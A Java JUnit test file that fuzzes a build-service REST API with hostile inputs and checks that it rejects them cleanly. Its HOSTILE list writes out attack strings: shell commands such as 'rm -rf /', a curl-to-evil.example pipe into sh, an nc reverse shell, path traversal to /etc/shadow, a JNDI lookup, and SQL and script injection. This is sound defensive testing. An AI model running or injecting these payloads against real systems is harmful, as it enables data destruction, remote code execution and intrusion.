package dev.goldsmith.builds;

import static dev.goldsmith.support.BuildRequests.aBuildRequest;
import static org.assertj.core.api.Assertions.assertThat;

import dev.goldsmith.support.Api;
import dev.goldsmith.support.ServiceTest;
import java.io.IOException;
import java.net.URI;
import java.net.URLEncoder;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.util.ArrayList;
import java.util.HashSet;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Set;
import java.util.UUID;
import java.util.function.BiConsumer;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.Timeout;
import tools.jackson.databind.JsonNode;

/**
 * Thousands of hostile requests over real HTTP: metacharacters, control characters, Unicode tricks, huge and
 * deeply nested values, wrong JSON types, duplicate keys, wrong content types and headers, bad query parameters.
 * None may cause a 5xx, every refusal is problem+json, nothing of a refused submission is stored, and the service
 * is healthy afterwards.
 */
class HostileInputTest extends ServiceTest {

    private static final HttpClient CLIENT = HttpClient.newBuilder()
            .version(HttpClient.Version.HTTP_1_1).connectTimeout(Duration.ofSeconds(5)).build();

    /** Values that must never reach a shell, a file name, a log line or a terminal unvalidated. */
    private static final List<String> HOSTILE = List.of(
            "; rm -rf / #", "$(reboot)", "`id`", "a && curl evil.example | sh", "a|nc -e /bin/sh x 1", "$HOME", "${IFS}",
            "a\nKLDLOAD_ROOT_PASSWORD=x", "a\r\nX-Injected: 1", "line\u2028separator", "a\u0000b", "\u0000",
            "bell\u0007", "\u001b[2J\u001b[31mred", "tab\there", "del\u007f", "c1\u0085", "\u202Egnp.exe", "\u2066iso\u2069",
            "zero\u200Bwidth", "\uFEFFbom", "word\u2060joiner", "\u0430dmin", "p\u0430ypal.com", "e\u0301\u0301\u0301",
            "\ud800", "\udc00lone", "😈", "../../etc/passwd", "..\\..\\windows\\system32", "%2e%2e%2fetc%2fpasswd",
            "/etc/shadow", "images/../../secret", "", " ", "   leading", "trailing   ", "{{7*7}}", "${jndi:ldap://x/a}",
            "' OR 1=1 --", "\"; DROP TABLE builds; --", "<script>alert(1)</script>", "%s%s%s%n", "A".repeat(300),
            "A".repeat(5_000), "é".repeat(2_000), "x".repeat(70_000));

    private static final List<String> STRING_FIELDS = List.of("distro", "profile", "installer", "tests", "channel",
            "timeout", "accel", "arch", "source.repository", "source.commit", "formats[]", "workerLabels[]",
            "answers.key", "answers.value", "answers.secret", "labels.key", "labels.value");

    private static final List<String> ALL_FIELDS = List.of("distro", "profile", "installer", "answers", "formats",
            "source", "source.repository", "source.commit", "tests", "channel", "priority", "labels", "timeout", "accel",
            "arch", "workerLabels", "force");

    private static final List<String> WRONG_TYPES = List.of("1", "-1", "1.5e308", "true", "false", "null", "[]", "{}",
            "\"text\"", "[1,2]", "{\"a\":{}}", "[[[]]]", "99999999999999999999999999", "[null]", "{\"\":null}");

    private record Outcome(String what, int status, String contentType, String body, JsonNode created) {
    }

    private final List<Outcome> outcomes = new ArrayList<>();
    private final Set<String> accepted = new HashSet<>();
    private String token;

    @Test
    @Timeout(120)
    void hostileRequestsNeverBreakTheServiceNorStoreAnything() {
        emptyQueue();
        token = as("hostile", "builder").token();
        long buildsBefore = count("select count(*) from builds");
        long secretsBefore = count("select count(*) from build_secrets");

        hostileStringsInEveryField();
        wrongTypesInEveryField();
        deepNestingInEveryField();
        duplicateKeys();
        wrongContentTypes();
        badIdempotencyKeys();
        badHistoryQueries();

        assertThat(outcomes).hasSizeGreaterThanOrEqualTo(2_000);
        List<String> broken = outcomes.stream()
                .filter(o -> o.status() < 200 || o.status() >= 500
                        || o.status() >= 300 && !o.contentType().startsWith("application/problem+json"))
                .map(o -> o.what() + " -> " + o.status() + " " + o.contentType() + " " + abbreviate(o.body()))
                .toList();
        assertThat(broken).isEmpty();
        assertThat(count("select count(*) from builds")).isEqualTo(buildsBefore + accepted.size());
        assertThat(count("select count(*) from build_secrets")).isLessThanOrEqualTo(secretsBefore + 2L * accepted.size());
        if (!accepted.isEmpty()) {
            assertThat(jdbc.sql("select count(*) from build_secrets where build_id::text not in (:ids) "
                    + "and build_id in (select id from builds where team = 'hostile')")
                    .param("ids", accepted).query(Long.class).single()).isZero();
        }
        assertThat(anonymous().get("/actuator/health").status()).isEqualTo(200);
        Api.Response valid = Api.at(port, token).post("/api/v1/builds", aBuildRequest().build());
        assertThat(valid.status()).as(valid.toString()).isEqualTo(202);
    }

    private void hostileStringsInEveryField() {
        for (String field : STRING_FIELDS) {
            for (String value : HOSTILE) {
                submitJson(field + "=" + abbreviate(value), with(field, value));
                submitJson(field + "=valid+" + abbreviate(value), with(field, "debian" + value));
            }
        }
    }

    private void wrongTypesInEveryField() {
        for (String field : ALL_FIELDS) {
            for (String literal : WRONG_TYPES) {
                submitRaw(field + ":" + literal, replaceLiteral(field, literal), "application/json");
            }
        }
    }

    private void deepNestingInEveryField() {
        String arrays = "[".repeat(10_000) + "]".repeat(10_000);
        String objects = "{\"a\":".repeat(5_000) + "1" + "}".repeat(5_000);
        for (String field : ALL_FIELDS) {
            submitRaw(field + ":deep arrays", replaceLiteral(field, arrays), "application/json");
            submitRaw(field + ":deep objects", replaceLiteral(field, objects), "application/json");
        }
        submitRaw("deep array body", arrays, "application/json");
        submitRaw("deep object body", objects, "application/json");
        submitRaw("unterminated nesting", "[".repeat(20_000), "application/json");
    }

    private void duplicateKeys() {
        String body = json(aBuildRequest().asMap());
        for (String field : ALL_FIELDS) {
            String key = field.contains(".") ? field.substring(field.indexOf('.') + 1) : field;
            submitRaw("duplicate " + field, body.replaceFirst("\\{", "{\"" + key + "\":\"ubuntu\","), "application/json");
        }
        submitRaw("duplicate answer key", body.replace("\"answers\":{", "\"answers\":{\"KLDLOAD_HOSTNAME\":\"x;id\","),
                "application/json");
    }

    private void wrongContentTypes() {
        String body = json(aBuildRequest().asMap());
        for (String type : List.of("text/plain", "application/xml", "multipart/form-data; boundary=x",
                "application/x-www-form-urlencoded", "application/json; charset=utf-16", "application/json; charset=bogus",
                "application/json;;;", "application/problem+json", "*/*", "garbage", "application/json; boundary=\u00e9",
                "text/html; charset=utf-8")) {
            submitRaw("content type " + type, body, type);
        }
        submitRaw("no content type", body, null);
        submitRaw("empty body", "", "application/json");
        submitRaw("not json", "distro=debian&profile=server", "application/json");
        submitRaw("truncated json", body.substring(0, body.length() / 2), "application/json");
        submitRaw("json array", "[" + body + "]", "application/json");
        submitRaw("trailing garbage", body + "}{", "application/json");
        submitRaw("invalid utf-8", new String(new byte[] {'{', '"', (byte) 0xC3, (byte) 0x28, '"', ':', '1', '}'},
                StandardCharsets.ISO_8859_1), "application/json");
        submitRaw("huge body", "{\"distro\":\"" + "A".repeat(200_000) + "\"}", "application/json");
    }

    private void badIdempotencyKeys() {
        for (String key : HOSTILE) {
            send("Idempotency-Key " + abbreviate(key), builder -> builder.header("Idempotency-Key", key),
                    json(aBuildRequest().asMap()), "application/json", true);
        }
    }

    private void badHistoryQueries() {
        for (String parameter : List.of("status", "distro", "profile", "label", "since", "limit", "cursor")) {
            for (String value : HOSTILE) {
                String query = parameter + "=" + URLEncoder.encode(value, StandardCharsets.UTF_8);
                get("GET ?" + parameter + "=" + abbreviate(value), "/api/v1/builds?" + query);
            }
            for (String raw : List.of("%", "%zz", "%00", "%0a", "a%c3", "-1", "0", "201", "1e3", "9999999999999")) {
                get("GET ?" + parameter + "=" + raw, "/api/v1/builds?" + parameter + "=" + raw);
            }
        }
        get("GET repeated limit", "/api/v1/builds?limit=1&limit=2");
        get("GET very long query", "/api/v1/builds?label=" + "a".repeat(6_000));
    }

    private Map<String, Object> with(String field, String value) {
        Map<String, Object> request = aBuildRequest().asMap();
        BiConsumer<String, Object> put = request::put;
        switch (field) {
            case "source.repository", "source.commit" -> {
                @SuppressWarnings("unchecked")
                Map<String, Object> source = new LinkedHashMap<>((Map<String, Object>) request.get("source"));
                source.put(field.substring("source.".length()), value);
                put.accept("source", source);
            }
            case "formats[]" -> put.accept("formats", List.of(value));
            case "workerLabels[]" -> put.accept("workerLabels", List.of(value));
            case "answers.key" -> put.accept("answers", merged(request.get("answers"), value, "x"));
            case "answers.value" -> put.accept("answers", merged(request.get("answers"), "KLDLOAD_HOSTNAME", value));
            case "answers.secret" -> put.accept("answers", merged(request.get("answers"), "KLDLOAD_PASSWORD", value));
            case "labels.key" -> put.accept("labels", Map.of(value, "x"));
            case "labels.value" -> put.accept("labels", Map.of("team", value));
            default -> put.accept(field, value);
        }
        return request;
    }

    @SuppressWarnings("unchecked")
    private static Map<String, String> merged(Object answers, String key, String value) {
        Map<String, String> copy = new LinkedHashMap<>((Map<String, String>) answers);
        copy.put(key, value);
        return copy;
    }

    /** The request as JSON text with {@code field}'s value replaced by a JSON literal. */
    private String replaceLiteral(String field, String literal) {
        String marker = "\"__HOSTILE_" + UUID.randomUUID() + "__\"";
        Map<String, Object> request = aBuildRequest().asMap();
        if (field.startsWith("source.")) {
            @SuppressWarnings("unchecked")
            Map<String, Object> source = new LinkedHashMap<>((Map<String, Object>) request.get("source"));
            source.put(field.substring("source.".length()), "MARK");
            request.put("source", source);
        } else {
            request.put(field, "MARK");
        }
        return json(request).replace("\"MARK\"", marker).replace(marker, literal);
    }

    private static String json(Object value) {
        return Api.JSON.writeValueAsString(value);
    }

    private void submitJson(String what, Map<String, Object> request) {
        submitRaw(what, json(request), "application/json");
    }

    private void submitRaw(String what, String body, String contentType) {
        send(what, builder -> { }, body, contentType, true);
    }

    private void get(String what, String pathAndQuery) {
        URI uri;
        try {
            uri = URI.create("http://127.0.0.1:" + port + pathAndQuery);
        } catch (IllegalArgumentException e) {
            return; // Not even a URI the client can send.
        }
        exchange(what, HttpRequest.newBuilder(uri).GET(), false);
    }

    private void send(String what, java.util.function.Consumer<HttpRequest.Builder> customize, String body,
            String contentType, boolean submission) {
        HttpRequest.Builder builder = HttpRequest.newBuilder(URI.create("http://127.0.0.1:" + port + "/api/v1/builds"))
                .POST(HttpRequest.BodyPublishers.ofString(body, StandardCharsets.UTF_8));
        try {
            customize.accept(builder);
            if (contentType != null) {
                builder.header("Content-Type", contentType);
            }
        } catch (IllegalArgumentException refusedByClient) {
            return; // Header values with CR, LF or NUL never leave the JDK client.
        }
        exchange(what, builder, submission);
    }

    private void exchange(String what, HttpRequest.Builder builder, boolean submission) {
        HttpRequest request = builder.header("Authorization", "Bearer " + token).timeout(Duration.ofSeconds(30)).build();
        try {
            HttpResponse<String> response = CLIENT.send(request, HttpResponse.BodyHandlers.ofString());
            String type = response.headers().firstValue("Content-Type").orElse("");
            JsonNode created = null;
            if (submission && response.statusCode() == 202) {
                created = Api.JSON.readTree(response.body());
                accepted.add(created.get("id").asString());
            }
            outcomes.add(new Outcome(what, response.statusCode(), type, response.body(), created));
        } catch (IOException e) {
            outcomes.add(new Outcome(what, 0, "", "no reply: " + e, null));
        } catch (InterruptedException e) {
            Thread.currentThread().interrupt();
            throw new IllegalStateException(e);
        }
    }

    private long count(String sql) {
        return jdbc.sql(sql).query(Long.class).single();
    }

    private static String abbreviate(String value) {
        String printable = value.codePoints().limit(40)
                .collect(StringBuilder::new, (sb, cp) -> sb.append(cp < 0x20 || cp == 0x7f
                        ? String.format("\\x%02x", cp) : new String(Character.toChars(cp))), StringBuilder::append)
                .toString();
        return value.length() > 40 ? printable + "…(" + value.length() + ")" : printable;
    }
}
